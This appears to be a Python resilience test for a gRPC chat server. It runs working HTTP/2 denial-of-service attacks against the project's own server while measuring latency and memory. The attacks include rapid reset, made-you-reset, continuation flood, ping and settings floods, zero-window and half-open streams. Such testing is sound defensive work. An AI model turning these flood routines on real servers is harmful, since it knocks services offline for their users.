"""Attacks on HTTP/2, one after the other, while somebody talks.

Each is made by a process of its own for some seconds. Meanwhile a session by grpcio says something at a steady pace and
waits for its ack: its 99th percentile, from when each was due, beside the one just before the attack is what the attack
costs others. An attacker is elsewhere: here it has the lowest priority, so that it takes from the server what it asks
of it, and not the processor. The memory of the server is read all the time. Behind each attack a new session must work.

Needs SALON_ADDRESS and SALON_PID; `tests/foreign/run attacks` sets them. SALON_ATTACK_SECONDS: how long each attack
goes on. SALON_ATTACK_ROUNDS: how often each is made, by turns with the quiet before it; the ratio is of the echoes of
all rounds together.
SALON_ATTACK_CONTROL=1: the attacks go to a socket that only reads, beside the server: what the machine itself, which is
the attacker's as well, takes from the session. Names as arguments: only these.
"""

import contextlib
import multiprocessing
import os
import pathlib
import selectors
import socket
import sys
import threading
import time
import uuid

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "python"))

from wire import (  # noqa: E402
    HOST,
    PORT,
    Connection,
    continuation,
    data,
    headers,
    ping,
    reset,
    settings,
    window_update,
)

SECONDS = float(os.environ.get("SALON_ATTACK_SECONDS", "4"))
ROUNDS = int(os.environ.get("SALON_ATTACK_ROUNDS", "1"))
# Between two things the talker says.
PACE = 0.004
# Of one attack: more than any of them needs of a server that bounds it, less than an unbounded one takes.
RSS_GROWTH_MAX = 192 << 20
# A machine is shared by attacker, server and client, so that this says only that the server goes on serving. Ten
# thousand sessions that begin at once are work for seconds in a build without optimisation.
P99_MAX = 10.0
RESETS = 100_000
CONTROL = os.environ.get("SALON_ATTACK_CONTROL") == "1"
HALF_OPEN = 10_000


def rapid_reset(state):
    """HEADERS and RST_STREAM at once (CVE-2023-44487), a hundred thousand times."""
    while state.going() or state.sent.value < RESETS:
        connection = state.connect()
        stream = 1
        while not connection.over() and stream < 200_000:
            burst = b"".join(headers(n) + reset(n) for n in range(stream, stream + 200, 2))
            stream += 200
            state.count(100)
            if not connection.send(burst):
                break
            if not state.going() and state.sent.value >= RESETS:
                break
        state.end(connection)


def made_you_reset(state):
    """Streams that the server resets because of our errors (CVE-2025-8671)."""
    while state.going():
        connection = state.connect()
        stream = 1
        while not connection.over() and stream < 200_000 and state.going():
            # A window update of nothing is an error of the stream.
            burst = b"".join(headers(n) + window_update_of_nothing(n) for n in range(stream, stream + 40, 2))
            stream += 40
            state.count(20)
            connection.send(burst)
        state.end(connection)


def window_update_of_nothing(stream):
    return b"\x00\x00\x04\x08\x00" + stream.to_bytes(4, "big") + bytes(4)


def continuation_flood(state):
    """Headers that never end (CVE-2024-27316)."""
    block = b"\x00\x04name\x7f\x80\x01" + b"x" * 255
    while state.going():
        connection = state.connect()
        connection.send(headers(1, flags=()))
        state.count(1)
        while state.going() and connection.send(b"".join([continuation(1, block)] * 50)):
            state.count(50)
        state.end(connection)


def flood(payload, frames):
    def flooding(state):
        while state.going():
            connection = state.connect()
            state.count(1)
            while state.going() and connection.send(payload):
                state.count(frames)
            state.end(connection)

    return flooding


def small_data(state):
    """One byte in a frame, and nothing in a frame."""
    while state.going():
        connection = state.connect()
        connection.send(headers(1))
        state.count(1)
        burst = data(1, b"\x00") * 200 + data(1) * 200
        while state.going() and connection.send(burst):
            state.count(400)
        state.end(connection)


def zero_window(state):
    """Calls whose answers nobody takes: windows of nothing, on many connections."""
    open_ones = []
    while state.going():
        if len(open_ones) < 100:
            connection = state.connect({4: 0})
            connection.send(b"".join(headers(n) for n in range(1, 200, 2)))
            state.count(100)
            open_ones.append(connection)
        for connection in open_ones:
            connection.drain()
            connection.send(ping())
        time.sleep(0.01)
    for connection in open_ones:
        state.end(connection)


def slow_handshake(state):
    """Sockets that begin, and go on by a byte now and then."""
    open_ones = []
    while state.going():
        if len(open_ones) < 500:
            with contextlib.suppress(OSError):
                open_ones.append(socket.create_connection((HOST, int(PORT)), timeout=1))
                open_ones[-1].send(b"PRI * HT")
                state.count(1)
                state.connections.value += 1
        else:
            time.sleep(0.05)
        state.started.set()
    for one in open_ones:
        one.close()


def half_open(state):
    """Ten thousand streams that never say anything."""
    open_ones = []
    while state.going() or len(open_ones) * 200 < HALF_OPEN:
        if len(open_ones) * 200 < HALF_OPEN:
            connection = state.connect()
            connection.send(b"".join(headers(n) for n in range(1, 400, 2)))
            state.count(200)
            open_ones.append(connection)
        else:
            for connection in open_ones:
                connection.drain()
            time.sleep(0.05)
    for connection in open_ones:
        state.end(connection)


# Whether the server must end the connection of the attacker, besides going on.
ATTACKS = {
    "rapid reset": (rapid_reset, True),
    "made you reset": (made_you_reset, True),
    "continuation flood": (continuation_flood, True),
    "ping flood": (flood(ping() * 500, 500), False),
    "settings flood": (flood(settings() * 500, 500), False),
    "small data": (small_data, True),
    "zero windows": (zero_window, False),
    "slow handshakes": (slow_handshake, False),
    "half-open streams": (half_open, False),
}


class State:
    """What attacker and watcher share."""

    def __init__(self, context):
        self.stop, self.started = context.Event(), context.Event()
        # Frames that were sent, connections that were made, those that the server ended, those with a GOAWAY, and those
        # that it did not read any more.
        self.sent, self.connections, self.ended, self.told, self.stuck = (context.Value("L", 0) for _ in range(5))

    def going(self):
        return not self.stop.is_set()

    def count(self, frames):
        self.sent.value += frames
        self.started.set()

    def connect(self, values=None):
        while True:
            try:
                connection = Connection(values)
                break
            except OSError:
                time.sleep(0.01)
        self.connections.value += 1
        return connection

    def end(self, connection):
        connection.drain(0.05)
        self.ended.value += connection.closed
        self.stuck.value += connection.stuck
        self.told.value += connection.goaway is not None
        connection.close()


def sink(port):
    """A server that takes all and says nothing; it says where it is."""
    with socket.create_server(("127.0.0.1", 0), backlog=1024) as server, selectors.DefaultSelector() as ready:
        port.value = server.getsockname()[1]
        ready.register(server, selectors.EVENT_READ)
        while True:
            for key, _ in ready.select():
                if key.fileobj is server:
                    ready.register(server.accept()[0], selectors.EVENT_READ)
                    continue
                with contextlib.suppress(OSError):
                    if key.fileobj.recv(1 << 16):
                        continue
                ready.unregister(key.fileobj)
                key.fileobj.close()


class Talker:
    """Somebody who talks: a session by grpcio."""

    def __init__(self):
        import grpc
        from session import generate

        root = pathlib.Path(__file__).resolve().parents[3]
        self.pb, services = generate(str(root / "proto"), "room/v1/room.proto")
        self.channel = grpc.insecure_channel(os.environ["SALON_ADDRESS"])
        self.rooms = services.RoomServiceStub(self.channel)
        self.room = self.rooms.CreateRoom(self.pb.CreateRoomRequest(name="Attacked", created_by="admin")).room_id
        self.session = self.join("talker")

    def join(self, user):
        from session import Event, Session

        session = Session(self.pb.ClientMessage, self.rooms.RoomSession, Event, user)
        session.send(join=self.pb.JoinRoom(room_id=self.room, user_id=user, display_name=user))
        session.expect("room_state")
        return session

    def echo(self, session=None):
        session = session or self.session
        request = uuid.uuid4().hex
        session.send(request, message=self.pb.SendMessage(content="I am still here"))
        answer = session.take(lambda event: event.request_id == request, "the ack")
        assert answer.kind == "ack", answer.message
        session.drop("message_received")

    def talk(self, seconds):
        """How long each echo took, from when it was due."""
        times, due = [], time.monotonic()
        end = due + seconds
        while due < end or len(times) < 100:
            time.sleep(max(0.0, due - time.monotonic()))
            self.echo()
            times.append(time.monotonic() - due)
            due += PACE
        return times


def p99(times):
    return sorted(times)[len(times) * 99 // 100]


def rss():
    for line in pathlib.Path(f"/proc/{os.environ['SALON_PID']}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) << 10
    raise RuntimeError("the server is gone")


class Memory:
    """The most that the server had, until it is asked."""

    def __init__(self):
        self.peak, self._stop = rss(), threading.Event()
        self._thread = threading.Thread(target=self._watch)
        self._thread.start()

    def _watch(self):
        while not self._stop.wait(0.02):
            self.peak = max(self.peak, rss())

    def end(self):
        self._stop.set()
        self._thread.join()
        return self.peak


def attack(name, state):
    os.nice(19)
    ATTACKS[name][0](state)


class Made:
    """One attack that was made: what others noticed, and what it took."""

    def __init__(self, name, talker):
        # Not by fork: this process has threads.
        context = multiprocessing.get_context("spawn")
        state, self.rss = State(context), rss()
        memory = Memory()
        self.before = talker.talk(SECONDS / 2)
        attacker = context.Process(target=attack, args=(name, state), daemon=True)
        attacker.start()
        try:
            assert state.started.wait(30), "the attack does not begin"
            self.during = talker.talk(SECONDS)
        finally:
            state.stop.set()
            attacker.join(120)
            self.peak = memory.end()
        assert attacker.exitcode == 0, f"the attacker ended with {attacker.exitcode}"
        self.sent, self.connections = state.sent.value, state.connections.value
        self.ended, self.told, self.stuck = state.ended.value, state.told.value, state.stuck.value
        print(
            f"{name}: {self.sent} frames on {self.connections} connections, {self.ended} ended by the server, "
            f"{self.told} of them told why, {self.stuck} not read any more; p99 of {len(self.during)} echoes "
            f"{p99(self.during) * 1000:.1f} ms, before {p99(self.before) * 1000:.1f} ms; memory {self.rss >> 20} MiB, "
            f"at most {self.peak >> 20} MiB, then {rss() >> 20} MiB",
            flush=True,
        )
        assert self.peak - self.rss < RSS_GROWTH_MAX, "the server's memory grows with the attack"
        assert p99(self.during) < P99_MAX, "others are not served any more"
        assert CONTROL or not ATTACKS[name][1] or self.ended > 0, "the server bears with it for ever"


def run(name, talker):
    made = [Made(name, talker) for _ in range(ROUNDS)]
    # Of all rounds together: the p99 of one is made of a handful of echoes.
    during, before = p99([t for one in made for t in one.during]), p99([t for one in made for t in one.before])
    ratio = during / before
    print(
        f"{name}: p99 of all {during * 1000:.1f} ms, before {before * 1000:.1f} ms: ratio {ratio:.2f} "
        f"({'within' if ratio <= 1.2 else 'beyond'} 20 %)",
        flush=True,
    )
    # Who comes now is served as ever.
    late = talker.join("late")
    talker.echo(late)
    late.half_close()


def main():
    from session import Failure

    talker, failed = Talker(), []
    if CONTROL:
        context = multiprocessing.get_context("spawn")
        port = context.Value("L", 0)
        context.Process(target=sink, args=(port,), daemon=True).start()
        while port.value == 0:
            time.sleep(0.01)
        os.environ["SALON_ATTACKED"] = f"127.0.0.1:{port.value}"
    for name in sys.argv[1:] or ATTACKS:
        try:
            run(name, talker)
        except (AssertionError, Failure) as error:
            print(f"{name}: FAILED: {error}", flush=True)
            failed.append(name)
    print(f"{len(failed)} attacks had success" if failed else "no attack had success")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
